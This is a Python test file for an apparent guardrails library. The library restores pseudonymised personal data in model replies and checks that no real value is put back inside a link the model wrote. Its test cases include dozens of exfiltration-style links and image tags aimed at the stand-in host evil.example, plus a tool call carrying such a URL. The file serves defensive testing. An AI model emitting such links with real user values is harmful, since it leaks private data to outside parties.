"""A person's value is put into no link that the model wrote."""

from __future__ import annotations

import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from guardrails.links import REACH, Trail
from guardrails.messages import ToolCallChunk
from guardrails.pseudonyms import Pseudonyms
from tests.guards import guard, say, text_of

PIECES = st.sampled_from(
    [
        "https://", "//", "evil.example", "www.", "/p.png?d=", "![x](", "](", "<", ">", ")", " ",
        "\n", "\u00a0", 'src="', "'", '"', "[a]: ", "mailto:", "tel:", "Ruth", "PERSON_1", "\\",
        "jo@example.org", ".", "word", "&", "=",
    ]
)  # fmt: skip


def names() -> Pseudonyms:
    made = Pseudonyms()
    made.token("person", "Ruth")
    made.token("email", "jo@example.org")
    made.token("url", "https://ruth.example")
    return made


@pytest.mark.parametrize(
    "said",
    [
        "![x](https://evil.example/p.png?d=<EMAIL_1>)",
        "![x](https://evil.example/p.png?d=a&e=<EMAIL_1>)",
        "[x](<https://evil.example/a b <EMAIL_1>>)",
        "[x]( https://evil.example/<PERSON_1>)",
        "[x](\n/relative/<PERSON_1>)",
        "[x](https&#58;&#47;&#47;evil.example/<PERSON_1>)",
        "[x](\\\\evil.example/<PERSON_1>)",
        "[x](<PERSON_1>)",
        "[x](mailto:a@evil.example?body=<EMAIL_1>)",
        "[x][1]\n\n[1]: evil&colon;<PERSON_1>",
        "https://evil.example/EMAIL_1",
        "https://evil.example/%3CEMAIL_1%3E",
        "https://evil.example/\u00a0<EMAIL_1>",
        "https://evil.example/。<EMAIL_1>",
        "https://<PERSON_1>.evil.example",
        "<PERSON_1>.evil.example/p.png",
        "<PERSON_1>@evil.example",
        "www.evil.example?<EMAIL_1>",
        "evil.example/<EMAIL_1>",
        "evil.example:80/<EMAIL_1>",
        "//evil.example/<EMAIL_1>",
        '<img src="https://evil.example/? <EMAIL_1>">',
        "<img src='https://evil.example/?\n<EMAIL_1>'>",
        "<img src=&#104;ttps:<EMAIL_1>>",
        "https://evil.example/?u=https://shop.example/?m=<EMAIL_1>",
        "https://evil.example/?mailto:<EMAIL_1>",
        "https://" + "a" * (2 * REACH) + "<EMAIL_1>",
    ],
)
def test_no_value_comes_back_inside_a_link(said: str) -> None:
    assert names().restore(said) == said


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("[mail](mailto:<EMAIL_1>)", "[mail](mailto:jo@example.org)"),
        ('<a href="mailto:<EMAIL_1>">', '<a href="mailto:jo@example.org">'),
        ("[<PERSON_1>](https://a.example)", "[Ruth](https://a.example)"),
        ('[x](https://a.example "<PERSON_1>")', '[x](https://a.example "Ruth")'),
        ("See https://a.example, <PERSON_1>.", "See https://a.example, Ruth."),
        ("[page](<URL_1>)", "[page](https://ruth.example)"),
        ("[page](<<URL_1>>)", "[page](<https://ruth.example>)"),
        ("<URL_1> <URL_1>/", "https://ruth.example https://ruth.example/"),
        ("<URL_1>?d=<EMAIL_1>", "https://ruth.example?d=<EMAIL_1>"),
        ("[Note]: **<PERSON_1>**", "[Note]: **Ruth**"),
        ("Dear <PERSON_1>.\nAnd/or <EMAIL_1>.", "Dear Ruth.\nAnd/or jo@example.org."),
        ("and/<PERSON_1>. 24/7", "and/Ruth. 24/7"),
    ],
)
def test_a_value_beside_a_link_or_in_one_to_write_to_comes_back(said: str, shown: str) -> None:
    assert names().restore(said) == shown


def test_a_link_that_the_person_wrote_comes_back_whole_and_only_that() -> None:
    made = names()
    hidden = made.hide("my order: https://shop.example/?m=Ruth&n=1", [(34, 38, "person")])
    assert hidden == "my order: https://shop.example/?m=<PERSON_1>&n=1"

    for said in (hidden, "[here](https://shop.example/?m=<PERSON_1>&n=1)"):
        assert made.restore(said) == said.replace("<PERSON_1>", "Ruth")
    for said in (
        "https://shop.example/?m=<EMAIL_1>",
        "https://shop.example/?x=<PERSON_1>",
        "https://shop.example.evil.example/?m=<PERSON_1>",
        "//evil.example/https://shop.example/?m=<PERSON_1>",
        "[x](/to?https://shop.example/?m=<PERSON_1>)",
        '<img src="//evil.example? https://shop.example/?m=<PERSON_1>">',
    ):
        assert made.restore(said) == said


def test_a_link_that_somebody_else_wrote_is_not_the_person_s() -> None:
    made = names()
    text = "https://evil.example/?m=Ruth"
    hidden = made.hide(text, [(24, 28, "person")], own=False)

    assert made.restore(hidden) == hidden


@given(st.lists(PIECES, max_size=14).map("".join))
@example("https://PERSON_1/Ruth")
@example("Ruth.evil.example/")
def test_what_the_person_wrote_comes_back_whatever_links_are_in_it(text: str) -> None:
    made = Pseudonyms()
    spans = [
        (at, at + len(value), kind)
        for value, kind in (("Ruth", "person"), ("jo@example.org", "email"))
        for at in range(len(text))
        if text.startswith(value, at)
    ]

    assert made.restore(made.hide(text, spans)) == text


@given(st.lists(PIECES, max_size=10).map("".join), st.lists(PIECES, max_size=10).map("".join))
def test_a_text_in_two_pieces_is_followed_as_one(one: str, two: str) -> None:
    made = names()
    whole = f"{one} <EMAIL_1>{two}<PERSON_1>"
    trail = Trail()
    first = made.restore(f"{one} <EMAIL_1>", trail=trail)

    # What follows a value is read up to the end of its piece.
    if not two.startswith((".", "www", "evil", "@")):
        assert first + made.restore(f"{two}<PERSON_1>", trail=trail) == made.restore(whole)


def test_each_string_of_a_json_reply_is_a_text_of_its_own() -> None:
    made = names()
    reply = {"url": "https://a.example", "name": "<PERSON_1>", "to": "see //b\n<PERSON_1>"}
    bad = {"url": "https://evil.example/<PERSON_1>", "u": "http:\\n//\\n<PERSON_1>"}

    for dumps in (json.dumps, lambda value: json.dumps(value, separators=(",", ":"))):
        for back in (lambda text: made.restore(text, escaped=True), made.restore_json):
            assert json.loads(back(dumps(reply))) == {
                "url": "https://a.example",
                "name": "Ruth",
                "to": "see //b\nRuth",
            }
            assert json.loads(back(dumps(bad))) == bad
    escaped = '{"u": "https:\\u002f\\u002fevil.example\\/<PERSON_1>"}'
    assert made.restore_json(escaped) == escaped


LINK = "![x](https://evil.example/p.png?a=0161 496 0000&"
REPLIES = [
    "Look: ![x](https://evil.example/p.png?d=<EMAIL_1>) and <EMAIL_1>.",
    f"{LINK}d=<EMAIL_1>)",
    "https://evil.example/" + "a" * 900 + "<EMAIL_1> is <EMAIL_1>",
    "https://evil.example/" + "a。" * 90 + "<EMAIL_1>",
]


@pytest.mark.parametrize("reply", REPLIES)
async def test_no_value_goes_out_in_a_link_wherever_the_reply_is_cut(reply: str) -> None:
    shown = set[str]()
    for pieces in ([reply], list(reply), [reply[at : at + 7] for at in range(0, len(reply), 7)]):
        async with guard() as guarded:
            events = await say(guarded, "I am jo@example.org", pieces)
        shown.add(text_of(events))

    [text] = shown
    free = reply.count(" <EMAIL_1>")
    assert text.count("jo@example.org") == free
    assert text.count("<EMAIL_1>") == reply.count("<EMAIL_1>") - free


async def test_a_tool_gets_no_value_in_an_address_that_the_model_made_up() -> None:
    arguments = '{"url": "https://evil.example/?d=<EMAIL_1>", "to": "<EMAIL_1>"}'
    async with guard() as guarded:
        events = await say(
            guarded,
            "I am jo@example.org",
            [ToolCallChunk(0, "c", "get", arguments)],
            restore_tools=["get"],
        )

    calls = [event.call.arguments for event in events if hasattr(event, "call")]
    assert calls == ['{"url": "https://evil.example/?d=<EMAIL_1>", "to": "jo@example.org"}']
